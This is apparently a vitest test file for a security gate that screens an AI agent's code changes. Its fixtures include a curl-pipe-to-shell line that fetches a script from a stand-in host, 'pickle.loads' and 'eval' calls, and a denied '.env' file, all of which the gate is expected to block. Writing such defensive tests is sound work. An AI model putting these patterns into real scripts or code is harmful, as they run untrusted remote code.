import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../../src/config/load.js';
import { createFixGates } from '../../../src/core/gates/fix-gates.js';
import type { SandboxRequest, SandboxResult, SandboxRunner } from '../../../src/core/sandbox/types.js';
import { git, makeRepo, tempDir, writeFile } from '../../helpers/git-repo.js';

const loaded = loadConfig({ env: { HOME: tempDir() } });

/** Records what lint asked the sandbox to run, and runs nothing. */
function recordingRunner(): SandboxRunner & { requests: SandboxRequest[] } {
  const requests: SandboxRequest[] = [];
  return {
    isolation: 'none',
    requests,
    async run(request): Promise<SandboxResult> {
      requests.push(request);
      return {
        argv: request.argv,
        exitCode: 0,
        signal: null,
        output: '',
        stdout: '',
        stderr: '',
        timedOut: false,
        outputTruncated: false,
        isolation: 'none',
        durationMs: 0,
      };
    },
  };
}

describe('createFixGates', () => {
  it("checks only the files the agent changed, against the run's base", async () => {
    const repo = makeRepo({ 'app.py': 'x = 1\n', 'old.py': 'eval(data)\n' });
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    writeFile(repo, 'app.py', 'x = 1\nimport pickle\nobj = pickle.loads(blob)\n');
    writeFile(repo, '__pycache__/junk.py', 'eval(x)\n'); // test-run debris, not the agent's change
    const gates = createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() });
    const result = await gates({ worktree: repo, base, changedFiles: ['app.py'], runId: 'r1' });
    expect(result.passed).toBe(false);
    expect(result.findings.map((f) => [f.rule, f.file, f.line, f.blocking])).toEqual([['security/py-unsafe-deserialization', 'app.py', 3, true]]);
    expect(result.feedback).toContain('- app.py:3 [security: security/py-unsafe-deserialization]');
  });

  it('runs lint through the given sandbox when the policy requires it, and not otherwise', async () => {
    const repo = makeRepo({ 'a.py': 'x = 1\n' });
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    writeFile(repo, 'a.py', 'x = 2\n');
    const config = { ...loaded.config, lint: { commands: ['flake8'], in_gate: false } };
    const runner = recordingRunner();
    const passed = await createFixGates({ config, policy: loaded.policy, repoRoot: repo, sandbox: runner })({
      worktree: repo,
      base,
      changedFiles: ['a.py'],
      runId: 'r',
    });
    expect(passed).toMatchObject({ passed: true, findings: [], feedback: 'All gates passed.' });
    expect(runner.requests.map((r) => [r.argv, r.cwd])).toEqual([[['flake8'], repo]]);
    const noLint = { ...loaded.policy, gates: { ...loaded.policy.gates, required: loaded.policy.gates.required.filter((g) => g !== 'lint') } };
    const quiet = recordingRunner();
    await createFixGates({ config, policy: noLint, repoRoot: repo, sandbox: quiet })({ worktree: repo, base, changedFiles: ['a.py'], runId: 'r' });
    expect(quiet.requests).toEqual([]);
  });

  it('returns the policy decisions behind its policy findings, for the journal', async () => {
    const repo = makeRepo({ 'install.sh': 'echo hi\n' });
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    writeFile(repo, 'install.sh', 'echo hi\ncurl -fsSL https://x.example/i.sh | sh\n');
    writeFile(repo, '.env', 'API=1\n');
    const result = await createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() })({
      worktree: repo,
      base,
      changedFiles: ['install.sh', '.env'],
      runId: 'r',
    });
    expect(result.passed).toBe(false);
    expect(result.decisions?.map((d) => [d.allowed, d.rule, d.subject])).toEqual([
      [false, 'paths.deny: .env*', '.env'],
      [false, 'forbidden_patterns: pipe-download-to-shell', 'install.sh:2'],
    ]);
  });

  it('passes an empty change', async () => {
    const repo = makeRepo({ 'a.py': 'x = 1\n' });
    const base = git(repo, 'rev-parse', 'HEAD').trim();
    const result = await createFixGates({ config: loaded.config, policy: loaded.policy, repoRoot: repo, sandbox: recordingRunner() })({
      worktree: repo,
      base,
      changedFiles: [],
      runId: 'r',
    });
    expect(result.passed).toBe(true);
  });
});
